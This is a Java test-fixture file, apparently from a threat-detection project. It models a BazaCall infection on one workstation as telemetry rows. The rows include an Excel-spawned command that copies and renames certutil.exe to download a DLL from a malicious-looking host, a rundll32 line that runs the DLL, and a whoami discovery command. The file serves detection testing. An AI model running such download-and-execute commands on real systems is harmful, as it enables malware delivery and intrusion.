package dev.bazahunt.correlation;

/** The BazaCall chain on one workstation, as the correlation sees it. */
public final class CorrelationFixtures {
    public static final String DEVICE = "b2c4e6a8f0123456789abcdef0123456789abcde";
    public static final long T0 = 1_626_789_778_103_456_700L; // 2021-07-20T14:02:58.1034567Z
    public static final long EXCEL_PID = 5120;
    public static final long EXCEL_CREATED = 1_626_789_590_250_000_000L;
    public static final long CMD_PID = 6640;
    public static final long CMD_CREATED = T0 - 591_456_700L;

    private CorrelationFixtures() {}

    public static DownloadRow payloadRow() {
        return row(T0, 18342L, "C:\\Users\\Public\\x8k2\\tmp1834.dll", "tmp1834.dll");
    }

    public static DownloadRow cacheRow() {
        return row(T0 + 96_643_300L, 18343L,
                "C:\\Users\\j.doe\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\9F3A1C0E5B7D2A4C",
                "9F3A1C0E5B7D2A4C");
    }

    public static DownloadRow row(long timestamp, Long reportId, String folderPath, String fileName) {
        DownloadRow row = new DownloadRow();
        row.ruleId = dev.bazahunt.rules.RuleIds.CERTUTIL_DOWNLOAD;
        row.deviceId = DEVICE;
        row.deviceName = "wks-0142.contoso.local";
        row.timestamp = timestamp;
        row.reportId = reportId;
        row.fileName = fileName;
        row.folderPath = folderPath;
        row.initiatingProcessId = 7212L;
        row.initiatingProcessCreationTime = T0 - 112_222_200L;
        row.initiatingProcessFileName = "x8k2.exe";
        row.initiatingProcessCommandLine =
                "x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll";
        row.initiatingProcessAccountDomain = "contoso";
        row.initiatingProcessAccountName = "j.doe";
        row.initiatingProcessParentId = CMD_PID;
        row.initiatingProcessParentCreationTime = CMD_CREATED;
        row.initiatingProcessParentFileName = "cmd.exe";
        return row;
    }

    public static ExcelChildEvent excelChild(long timestamp, long reportId, long processId, long processCreated,
            String fileName, String commandLine) {
        ExcelChildEvent child = new ExcelChildEvent();
        child.timestamp = timestamp;
        child.reportId = reportId;
        child.processId = processId;
        child.processCreationTime = processCreated;
        child.fileName = fileName;
        child.processCommandLine = commandLine;
        child.initiatingProcessId = EXCEL_PID;
        child.initiatingProcessCreationTime = EXCEL_CREATED;
        return child;
    }

    public static ExcelChildEvent copiesCertutil() {
        return excelChild(T0 - 583_456_700L, 18300, CMD_PID, CMD_CREATED, "cmd.exe",
                "cmd.exe /c mkdir C:\\Users\\Public\\x8k2 && copy C:\\Windows\\System32\\certutil.exe "
                        + "C:\\Users\\Public\\x8k2\\x8k2.exe && C:\\Users\\Public\\x8k2\\x8k2.exe -urlcache -split -f "
                        + "http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll");
    }

    public static ExcelChildEvent runsPayload() {
        return excelChild(T0 + 152_000_000_000L, 18400, 7388, T0 + 151_990_000_000L, "rundll32.exe",
                "rundll32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOut");
    }

    public static ExcelChildEvent whoami() {
        return excelChild(T0 - 137_000_000_000L, 18200, 6012, T0 - 137_010_000_000L, "cmd.exe",
                "cmd.exe /c whoami /groups");
    }
}
